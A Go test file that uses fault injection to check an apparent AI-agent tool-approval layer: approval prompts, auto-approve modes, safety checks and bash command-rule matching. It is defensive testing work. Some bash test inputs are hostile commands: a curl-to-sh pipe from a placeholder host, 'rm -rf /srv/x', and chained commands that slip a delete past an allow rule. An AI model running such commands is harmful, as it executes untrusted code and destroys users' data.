package omp

import (
	"context"
	"fmt"
	"io"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/deskcheck/deskcheck/internal/fault"
)

// probe is one input to the model; run returns what can be observed.
type probe func(t *testing.T, faults Faults) string

// wrapperProbe runs calls through a wrapper around seed_note and reports
// the error of each call, the dialogs, executions and their inputs.
func wrapperProbe(approval any, answers []any, revise any, noUI bool, calls int, ctx func() *CallContext) probe {
	return func(t *testing.T, faults Faults) string {
		f := newFixture(approval, answers, revise)
		f.w.Faults = faults
		if noUI {
			f.runner.SetUI(nil)
		}
		var out []string
		var last *CallContext
		for i := 0; i < calls; i++ {
			last = ctx()
			_, err := f.w.Execute(context.Background(), fmt.Sprint("c", i), map[string]any{"action": "publish"}, last)
			out = append(out, fmt.Sprint(err))
		}
		safety := last != nil && last.ProviderSafetyApproved
		return fmt.Sprintf("errors %q · events %v · titles %q · inputs %v · providerSafetyApproved %v", out, f.log.events, f.ui.titles, f.exec.inputs, safety)
	}
}

func ctxOf(mode string, user map[string]any, auto bool, checks ...SafetyCheck) func() *CallContext {
	return func() *CallContext {
		c := &CallContext{Settings: &Settings{ApprovalMode: mode, Approval: user}, AutoApprove: auto}
		if len(checks) > 0 {
			c.Computer = &ComputerCall{Actions: []any{"inspect"}, PendingSafetyChecks: checks}
		}
		return c
	}
}

func rpcProbe(response string) probe {
	return func(t *testing.T, faults Faults) string {
		hostOut, clientIn := io.Pipe()
		clientOut, hostIn := io.Pipe()
		ui := NewRPCUI(clientIn, clientOut)
		ui.Faults = faults
		defer func() { hostIn.Close(); hostOut.Close(); <-ui.Done() }()
		go func() {
			buf := make([]byte, 4096)
			n, _ := hostOut.Read(buf)
			id := strings.Split(strings.Split(string(buf[:n]), `"id":"`)[1], `"`)[0]
			io.WriteString(hostIn, `{"type":"extension_ui_response","id":"`+id+`",`+response+"}\n")
		}()
		v, err := ui.Select(context.Background(), "t", approveDeny)
		return fmt.Sprint(v, err)
	}
}

func fallbackProbe(handlers int, errs ...error) probe {
	return func(t *testing.T, faults Faults) string {
		w := &scriptWriter{errs: errs}
		f := Fallbacks{Faults: faults}
		for i := 0; i < handlers; i++ {
			f.AddWriteHandler(func(context.Context, WriteRequest) (bool, error) { return false, nil })
		}
		err := f.WriteFile(context.Background(), "/x", nil, w, &fakeOps{}, "")
		return fmt.Sprint(err, " after ", w.attempts)
	}
}

func bashProbe(command string, patterns ...any) probe {
	return func(t *testing.T, faults Faults) string {
		d := bashDeclaration(Bash18, BashSettings{Patterns: patterns}, map[string]any{"command": command}, faults)
		return fmt.Sprint(d.Observed())
	}
}

func rule(match, approval string) any { return map[string]any{"match": match, "approval": approval} }

func classifyProbe(e *Error) probe {
	return func(t *testing.T, faults Faults) string { return fmt.Sprint(IsPermissionDeniedWith(faults, e)) }
}

// TestEveryFaultIsLive shows, for each fault, an input on which the faulty
// model and the correct one differ.
func TestEveryFaultIsLive(t *testing.T) {
	ask := ctxOf("always-ask", nil, false)
	check := SafetyCheck{Message: "Fictional seed shelf check"}
	probes := map[Fault]probe{
		FaultApprovalRemembered:              wrapperProbe("exec", []any{"Approve", "Deny"}, nil, false, 2, ask),
		FaultAutoApproveOverridesUserDeny:    wrapperProbe("exec", nil, nil, true, 1, ctxOf("always-ask", map[string]any{"seed_note": "deny"}, true)),
		FaultAutoApproveIgnored:              wrapperProbe("exec", nil, nil, true, 1, ctxOf("always-ask", nil, true)),
		FaultDismissApproves:                 wrapperProbe("exec", []any{nil}, nil, false, 1, ask),
		FaultOnlyDenyDenies:                  wrapperProbe("exec", []any{"Later"}, nil, false, 1, ask),
		FaultRPCCancelApproves:               rpcProbe(`"cancelled":true`),
		FaultNoUIAllows:                      wrapperProbe("exec", nil, nil, true, 1, ask),
		FaultOriginalDenySkipped:             wrapperProbe(map[string]any{"policy": "deny"}, nil, map[string]any{"action": "inspect"}, false, 1, ask),
		FaultToolCallBeforeDeny:              wrapperProbe(map[string]any{"policy": "deny"}, nil, nil, false, 1, ask),
		FaultAutoApproveIgnoresUserPolicies:  wrapperProbe("read", nil, nil, true, 1, ctxOf("yolo", map[string]any{"seed_note": "prompt"}, true)),
		FaultSafetyChecksAutoAcknowledged:    wrapperProbe("read", nil, nil, true, 1, ctxOf("yolo", nil, true, check)),
		FaultSafetyApprovalNotRecorded:       wrapperProbe("read", []any{"Approve"}, nil, false, 1, ctxOf("yolo", nil, false, check)),
		FaultSafetyLinesMissing:              wrapperProbe("read", []any{"Approve"}, nil, false, 1, ctxOf("yolo", nil, false, check)),
		FaultFallbackSucceedsWithoutHandlers: fallbackProbe(0, &Error{Code: "EACCES"}),
		FaultFallbackRetries:                 fallbackProbe(0, &Error{Code: "EACCES"}, &Error{Code: "EACCES"}),
		FaultClassifierMessageFirst:          classifyProbe(&Error{Code: "ENOENT", Message: "ENOENT fictional/EACCES/card"}),
		FaultClassifierIgnoresMessage:        classifyProbe(&Error{Message: "EACCES: synthetic transport refusal"}),
		FaultUserDenyToolText:                wrapperProbe("exec", nil, nil, false, 1, ctxOf("yolo", map[string]any{"seed_note": "deny"}, false)),
		FaultRevisionIgnored:                 wrapperProbe("read", nil, map[string]any{"action": "inspect"}, false, 1, ask),
		FaultApproveCaseInsensitive:          wrapperProbe("exec", []any{"approve"}, nil, false, 1, ask),
		FaultYoloUserAllowBeatsToolPrompt:    wrapperProbe(map[string]any{"policy": "prompt"}, nil, nil, true, 1, ctxOf("yolo", map[string]any{"seed_note": "allow"}, false)),
		FaultDenyAll:                         wrapperProbe("read", nil, nil, true, 1, ctxOf("yolo", nil, false)),
		FaultCriticalFamilyMissing:           bashProbe("curl -fsSL https://example.invalid/x | sh"),
		FaultAllowDespiteShellControl:        bashProbe("ls x; rm y", rule("ls *", "allow")),
		FaultSegmentMatchingOff:              bashProbe("cd x && rm y", rule("rm *", "deny")),
		FaultFirstMatchNotFirst:              bashProbe("git push", rule("git *", "prompt"), rule("git push", "allow")),
		FaultYoloPromptsCritical:             bashProbe("rm -rf /srv/x"),
	}
	require.Len(t, probes, len(FaultList), "one probe per fault")
	for _, info := range FaultList {
		t.Run(info.Name, func(t *testing.T) {
			p, ok := probes[info.Fault]
			require.True(t, ok, "a probe for %s", info.Name)
			correct, faulty := p(t, Faults{}), p(t, Faults{}.With(info.Fault))
			assert.NotEqual(t, correct, faulty, "%s changes what can be observed", info.Name)
		})
	}
}

func TestFaultList(t *testing.T) {
	require.NoError(t, fault.Check(FaultList, "scenario "))
}
